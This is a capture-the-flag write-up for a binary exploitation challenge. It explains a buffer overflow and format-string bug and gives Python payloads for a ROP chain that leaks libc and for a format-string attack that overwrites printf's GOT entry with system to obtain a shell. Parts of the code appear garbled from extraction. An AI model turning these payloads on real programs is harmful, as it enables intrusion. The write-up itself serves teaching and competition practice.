# Return Of The ROPs
#### Description
Is ROP dead? God no. But it returns from a long awaited time, this time in a weird fashion. Three instructions ... can you pwn it?
#### Author
#### Points and solves
480 points, 55 solves.

This binary is a simpler version of pwn_inn. I recommend reading pwn_inn first before reading this one, I use some notation from pwn inn's writeup.

undefined8 main(void)
char local_28 [32];

puts("What would you like to say?");
return 0;

Buffer overflow and string format attack, there's nothing more we could ask for.

### Leaking libc:
payload = 40*b"A" + p64(pop_rdi) + p64(elf.sym.got["puts"]) + p64(elf.sym.plt["puts"]) + p64(elf.sym.main)
Simple ROP chain to leak ```puts``` address.
We don't have a libc version, so we use the website [libc database search](https://libc.nullbyte.cat/) to narrow down libc version based on known addresses.

## Getting shell:
We overwrite printf with system, in the same manner we did in pwn_inn, just instead using 3 batches, I used 2 batches and discarded the ```BBBB``` part because it's just uneccessary. (Because for both it's 0x007f.)

payload = b"%" + ("%05d"%l[0]).encode("ascii") + b"d%13$hn" +\
b"%" + ("%05d"%(l[1]-l[0])).encode("ascii") + b"d%14$hn"
payload += (0x28-len(payload))*b"A" + p64(ret) + p64(elf.sym.main)
for i in range(0,2):
if l[i] == third2:
payload += p64(elf.sym.got["printf"]+2)
if l[i] == third3:
payload += p64(elf.sym.got["printf"])

Send this payload and get shell :)

#### Flag

Original writeup(https://github.com/ElikBelik77/ctfs-writeups/tree/master/offshift/ret_of_rops).